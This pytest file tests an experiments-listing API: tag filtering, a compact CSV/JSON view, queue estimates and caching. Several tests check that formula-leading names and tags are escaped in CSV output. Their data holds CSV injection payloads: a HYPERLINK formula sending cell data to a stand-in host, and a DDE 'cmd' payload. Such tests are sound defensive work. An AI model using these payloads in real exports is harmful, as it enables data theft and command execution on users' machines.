"""GET /experiments for a class: tags that group runs, the compact table (JSON and CSV), and
queue positions, estimated starts and time left computed on read."""

from __future__ import annotations

import csv
import io
import math
import threading
import time
from datetime import datetime, timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from service.db import leases, pages
from service.db.models import ExperimentRow
from service.domain import FINISHED, EpochRecord, Status
from service.estimates import Estimate
from service.usecases import listing
from tests.factories import tiny_spec
from tests.helpers import claim, runtime_of, submit

# Two epochs of a run that overfits a little: training keeps improving, validation peaks at 1.
EPOCHS = (
    EpochRecord(1, loss=0.5, accuracy=0.85, val_loss=0.30, val_accuracy=0.91, seconds=2.0),
    EpochRecord(2, loss=0.3, accuracy=0.92, val_loss=0.35, val_accuracy=0.89, seconds=4.0),
)


def _submit(client: TestClient, name: str, *tags: str, epochs: int = 5) -> str:
    spec = tiny_spec(epochs=epochs)
    return str(submit(client, {**spec, "name": name, "tags": list(tags)})["id"])


def _run(client: TestClient, experiment_id: str, epochs: tuple[EpochRecord, ...]) -> None:
    attempt = claim(client, experiment_id)
    with runtime_of(client).db.scope() as session:
        for record in epochs:
            assert leases.record_epoch(
                session,
                experiment_id=experiment_id,
                attempt=attempt,
                record=record,
                lease_seconds=60,
            ).alive


def test_tags_are_kept_and_filter_the_list(client: TestClient) -> None:
    first = _submit(client, "a", "class-3", "dropout", " class-3 ")
    _submit(client, "b", "class-3")
    _submit(client, "c")

    assert client.get(f"/experiments/{first}").json()["tags"] == ["class-3", "dropout"]
    names = lambda **q: [e["name"] for e in client.get("/experiments", params=q).json()["data"]]  # noqa: E731
    assert names(tag="class-3") == ["b", "a"]
    assert names(tag=["class-3", "dropout"]) == ["a"]
    assert names(tag="nobody") == []
    count = lambda **q: client.get("/experiments", params=q).json()["count"]  # noqa: E731
    assert [count(tag="class-3"), count(tag=["class-3", "dropout"]), count(tag="nobody")] == [
        2,
        1,
        0,
    ]
    assert count(tag="class-3", status="queued") == 2
    assert "tags" not in client.get(f"/experiments/{first}").json()["spec"]


@pytest.mark.parametrize(
    ("tags", "says"),
    [([""], "a tag is 1 to 40 characters"), (["x"] * 1 + list("abcdefghijk"), "at most 10")],
)
def test_bad_tags_are_a_422(client: TestClient, tags: list[str], says: str) -> None:
    response = client.post("/experiments", json={**tiny_spec(), "tags": tags})

    assert response.status_code == 422
    assert says in response.json()["detail"]


def test_compact_view_answers_does_it_overfit(client: TestClient) -> None:
    experiment_id = _submit(client, "overfits", "q1")
    _run(client, experiment_id, EPOCHS)

    body = client.get("/experiments", params={"view": "compact", "tag": "q1"}).json()
    (row,) = body["data"]
    assert "spec" not in row
    assert "summary" not in row
    assert (
        row["params"]
        == client.get(f"/experiments/{experiment_id}").json()["summary"]["total_params"]
    )
    assert row["epochs_done"] == 2
    assert row["epochs"] == 5
    assert row["seconds_per_epoch"] == 3.0
    assert (row["final_loss"], row["final_val_accuracy"]) == (0.3, 0.89)
    assert (row["best_epoch"], row["best_val_accuracy"], row["best_val_loss"]) == (1, 0.91, 0.30)
    assert (row["best_accuracy"], row["best_loss"]) == (0.92, 0.3)
    assert row["test_accuracy"] is None


@pytest.mark.parametrize(
    ("params", "headers"), [({"format": "csv"}, {}), ({}, {"accept": "text/csv"})]
)
def test_compact_view_as_csv(
    client: TestClient, params: dict[str, str], headers: dict[str, str]
) -> None:
    experiment_id = _submit(client, "overfits", "q1", "class-3")
    _run(client, experiment_id, EPOCHS)

    response = client.get("/experiments", params=params, headers=headers)

    assert response.headers["content-type"].startswith("text/csv")
    (row,) = csv.DictReader(io.StringIO(response.text))
    assert row["name"] == "overfits"
    assert row["tags"] == "class-3 q1"
    assert (row["best_epoch"], row["best_val_accuracy"], row["test_accuracy"]) == ("1", "0.91", "")


def test_queued_experiments_carry_position_and_start_running_ones_time_left(
    client: TestClient,
) -> None:
    running = _submit(client, "running", epochs=5)
    first, second = _submit(client, "first", epochs=2), _submit(client, "second", epochs=2)
    before = client.get(f"/experiments/{first}").json()
    assert before["queue_position"] == 2  # nothing timed yet: no start to promise
    assert before["estimated_start"] is None

    _run(client, running, EPOCHS)  # 3 s an epoch, 3 epochs to go: 9 s left

    now = datetime.now().astimezone()
    run = client.get(f"/experiments/{running}").json()
    assert run["estimated_seconds_left"] == 9.0
    assert run["queue_position"] is None
    listed = {e["id"]: e for e in client.get("/experiments").json()["data"]}
    assert listed[first]["queue_position"] == 1
    assert listed[second]["queue_position"] == 2
    # One slot: `first` starts when `running` ends; `second` after first's 2 epochs at the
    # median pace of recent epochs (3 s).
    starts = [datetime.fromisoformat(listed[i]["estimated_start"]) for i in (first, second)]
    assert starts[0] - now == pytest.approx(timedelta(seconds=9), abs=timedelta(seconds=5))
    assert starts[1] - starts[0] == pytest.approx(timedelta(seconds=6), abs=timedelta(seconds=1))


FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_csv_keeps_a_name_that_would_start_a_formula_as_text(client: TestClient, name: str) -> None:
    _submit(client, name)
    response = client.get("/experiments", params={"format": "csv"})
    (row,) = csv.DictReader(io.StringIO(response.text, newline=""))
    assert row["name"] == "'" + name
    assert client.get("/experiments").json()["data"][0]["name"] == name  # JSON is unchanged


def test_csv_keeps_tags_that_would_start_a_formula_as_text(client: TestClient) -> None:
    _submit(client, "tagged", "=cmd|' /C calc'!A0", "q1")
    _submit(client, "harmless", "q1", "x=1+1")  # a formula only at a cell's start is one
    response = client.get("/experiments", params={"format": "csv"})
    tags = {row["name"]: row["tags"] for row in csv.DictReader(io.StringIO(response.text))}
    assert tags == {"tagged": "'=cmd|' /C calc'!A0 q1", "harmless": "q1 x=1+1"}


def test_csv_leaves_negative_numbers_numbers(client: TestClient) -> None:
    experiment_id = _submit(client, "negative")
    record = EpochRecord(1, loss=-0.5, accuracy=0.5, val_loss=-0.25, val_accuracy=0.5, seconds=1.0)
    _run(client, experiment_id, (record,))
    response = client.get("/experiments", params={"format": "csv"})
    (row,) = csv.DictReader(io.StringIO(response.text))
    assert (row["final_loss"], row["best_val_loss"]) == ("-0.5", "-0.25")


def test_the_202_of_a_queued_experiment_says_where_it_stands(client: TestClient) -> None:
    running = _submit(client, "running", epochs=5)
    _run(client, running, EPOCHS)  # 9 s left on the one slot

    accepted = submit(client, {**tiny_spec(epochs=2), "name": "next"})

    assert accepted["queue_position"] == 1
    start = datetime.fromisoformat(accepted["estimated_start"])
    assert start - datetime.now().astimezone() == pytest.approx(
        timedelta(seconds=9), abs=timedelta(seconds=5)
    )


def test_estimates_count_what_finished_jobs_took_beyond_their_epochs(client: TestClient) -> None:
    finished = _submit(client, "finished", epochs=2)
    _run(client, finished, EPOCHS)  # 6 s of epochs
    db = runtime_of(client).db
    with db.scope() as session:
        assert leases.succeed(
            session,
            experiment_id=finished,
            attempt=1,
            test_loss=0.3,
            test_accuracy=0.9,
            model_uri="memory://finished",
            versions={},
        )
        # Claimed 10 s before it ended: 4 s went to building, evaluating and saving.
        ended = session.get_one(ExperimentRow, finished).finished_at
        assert ended is not None
        session.execute(
            update(ExperimentRow)
            .where(ExperimentRow.id == finished)
            .values(started_at=ended - timedelta(seconds=10))
        )
    first, second = _submit(client, "first", epochs=2), _submit(client, "second", epochs=2)

    listed = {e["id"]: e for e in client.get("/experiments").json()["data"]}

    starts = [datetime.fromisoformat(listed[i]["estimated_start"]) for i in (first, second)]
    # 2 epochs at the median pace (3 s) and the 4 s beyond them: 10 s, not 6.
    assert starts[1] - starts[0] == pytest.approx(timedelta(seconds=10), abs=timedelta(seconds=1))


def test_history_reports_the_learning_rate_to_the_digits_a_float32_has(client: TestClient) -> None:
    experiment_id = _submit(client, "sgd", epochs=2)
    kept = EpochRecord(1, 0.5, 0.8, 0.4, 0.85, seconds=1.0, learning_rate=0.009999999776482582)
    _run(client, experiment_id, (kept,))

    rows = client.get(f"/experiments/{experiment_id}/history").json()["epochs"]

    assert rows[0]["learning_rate"] == 0.01


def test_estimates_are_reused_while_the_change_log_stands_still(client: TestClient) -> None:
    """A class's reads compute them once a second at most, not once a read; anything they are
    computed from (here a cancel, then a new submission) is seen by the next read."""
    first, second = _submit(client, "first"), _submit(client, "second")
    cache = runtime_of(client).estimates
    with runtime_of(client).db.scope() as session:
        kept = cache.get(session)
        assert cache.get(session) is kept  # nothing changed: the same answer, not recomputed
    assert client.get(f"/experiments/{second}").json()["queue_position"] == 2

    assert client.post(f"/experiments/{first}/cancel").status_code in (200, 202)
    assert client.get(f"/experiments/{second}").json()["queue_position"] == 1
    third = _submit(client, "third")
    assert client.get(f"/experiments/{third}").json()["queue_position"] == 2


def test_reads_that_miss_together_compute_the_estimates_once(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A class's polls arrive together after each change: one computes, the others take its
    answer instead of each computing their own copy."""
    _submit(client, "queued")
    cache = runtime_of(client).estimates
    now = [time.monotonic()]
    cache.clock = lambda: now[0]
    now[0] += 2 * cache.max_age  # what is kept is too old: the next reads must compute
    computed = []
    compute = listing.estimates

    def slow_estimates(*args: object, **options: object) -> dict[str, Estimate]:
        computed.append(1)
        time.sleep(0.2)  # long enough for every reader to arrive while it computes
        return compute(*args, **options)  # type: ignore[arg-type]

    monkeypatch.setattr(listing, "estimates", slow_estimates)
    answers = []

    def read() -> None:
        with runtime_of(client).db.scope() as session:
            answers.append(cache.get(session))

    readers = [threading.Thread(target=read) for _ in range(4)]
    for reader in readers:
        reader.start()
    for reader in readers:
        reader.join()

    assert len(computed) == 1
    assert len(answers) == 4
    assert all(answer is answers[0] for answer in answers)


def test_estimates_are_recomputed_once_they_are_a_second_old(client: TestClient) -> None:
    cache = runtime_of(client).estimates
    now = [100.0]
    cache.clock = lambda: now[0]
    _submit(client, "queued")
    with runtime_of(client).db.scope() as session:
        kept = cache.get(session)
        now[0] += cache.max_age / 2
        assert cache.get(session) is kept
        now[0] += cache.max_age
        assert cache.get(session) is not kept  # running jobs' time left moves with the clock


def test_reads_without_a_queued_or_running_run_compute_no_estimates(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Only queued and running runs have an estimate, so a page of finished runs (most of a
    term's reads) and a finished run's own page skip the queue's estimates altogether."""
    done, waiting = _submit(client, "done"), _submit(client, "waiting")
    with runtime_of(client).db.scope() as session:
        session.execute(
            update(ExperimentRow).where(ExperimentRow.id == done).values(status="succeeded")
        )
    cache = runtime_of(client).estimates
    now = [time.monotonic() + 2 * cache.max_age]  # nothing kept is fresh: a read would compute
    cache.clock = lambda: now[0]
    computed = []
    compute = listing.estimates

    def counted(*args: object, **options: object) -> dict[str, Estimate]:
        computed.append(1)
        return compute(*args, **options)  # type: ignore[arg-type]

    monkeypatch.setattr(listing, "estimates", counted)
    finished = client.get("/experiments", params={"status": "succeeded"}).json()["data"]
    assert [run["queue_position"] for run in finished] == [None]
    assert client.get(f"/experiments/{done}").json()["estimated_start"] is None
    assert computed == []

    assert client.get(f"/experiments/{waiting}").json()["queue_position"] == 1
    assert client.get("/experiments").json()["data"][0]["queue_position"] == 1
    assert computed == [1]


def test_the_compact_csv_answers_as_the_whole_experiments_would(client: TestClient) -> None:
    """A CSV page is read as `compact_page` (only the table's columns, the spec's epochs and
    the summary's parameters taken from their JSON by the database): its rows, byte for byte,
    and its next page are those built from the whole experiments, for runs in every status."""
    runs = {status: _submit(client, f"={status}", "class", status, epochs=3) for status in Status}
    diverged = (
        *EPOCHS,
        EpochRecord(3, math.nan, 0.1, val_loss=None, val_accuracy=None, seconds=3.0),
    )
    for status in Status:
        if status is not Status.QUEUED:
            _run(client, runs[status], diverged if status is Status.PRUNED else EPOCHS)
    with runtime_of(client).db.scope() as session:
        for status in FINISHED:
            session.execute(
                update(ExperimentRow).where(ExperimentRow.id == runs[status]).values(status=status)
            )
        scored = update(ExperimentRow).where(ExperimentRow.id == runs[Status.SUCCEEDED])
        session.execute(scored.values(test_loss=0.25, test_accuracy=0.93))
        unbuilt = update(ExperimentRow).where(ExperimentRow.id == runs[Status.FAILED])
        session.execute(unbuilt.values(summary=None))

    queries: list[dict[str, Any]] = [
        {},
        {"tags": ["class"], "order": "test_accuracy"},
        {"order": "-test_accuracy", "limit": 2},
        {"status": Status.RUNNING},
        {"limit": 2, "offset": 3},
    ]
    with runtime_of(client).db.scope() as session:
        as_csv = lambda runs: listing.as_csv(listing.overviews(session, runs))  # noqa: E731
        for query in queries:
            compact = pages.compact_page(session, **query)
            whole = pages.list_experiments(session, **query)
            assert as_csv(compact.items) == as_csv(whole.items), query
            assert compact.next == whole.next, query
        expected = as_csv(whole.items)
        after = pages.compact_page(session, limit=2, after=whole.next)
        assert as_csv(after.items) == as_csv(
            pages.list_experiments(session, limit=2, after=whole.next).items
        )
    assert "'=succeeded" in expected

    listed = client.get("/experiments", params={"format": "csv", "limit": 2, "offset": 3})
    assert listed.text == expected
    assert listed.headers["link"].startswith("</experiments?format=csv&limit=2&cursor=")


def test_a_tag_s_cursor_walk_shows_every_submitted_run_newest_first(client: TestClient) -> None:
    """A tag's page sorts by the tag's copy of its experiment's created_at: a submission must
    write it, or its run drops out of the walk after the first page."""
    submitted = [_submit(client, f"net {number}", "walked") for number in range(3)]
    walked: list[str] = []
    page = client.get("/experiments", params={"tag": "walked", "limit": 1}).json()
    while True:
        walked += [row["id"] for row in page["data"]]
        if page["next_cursor"] is None:
            break
        following = {"tag": "walked", "limit": 1, "cursor": page["next_cursor"]}
        page = client.get("/experiments", params=following).json()
    assert walked == submitted[::-1]
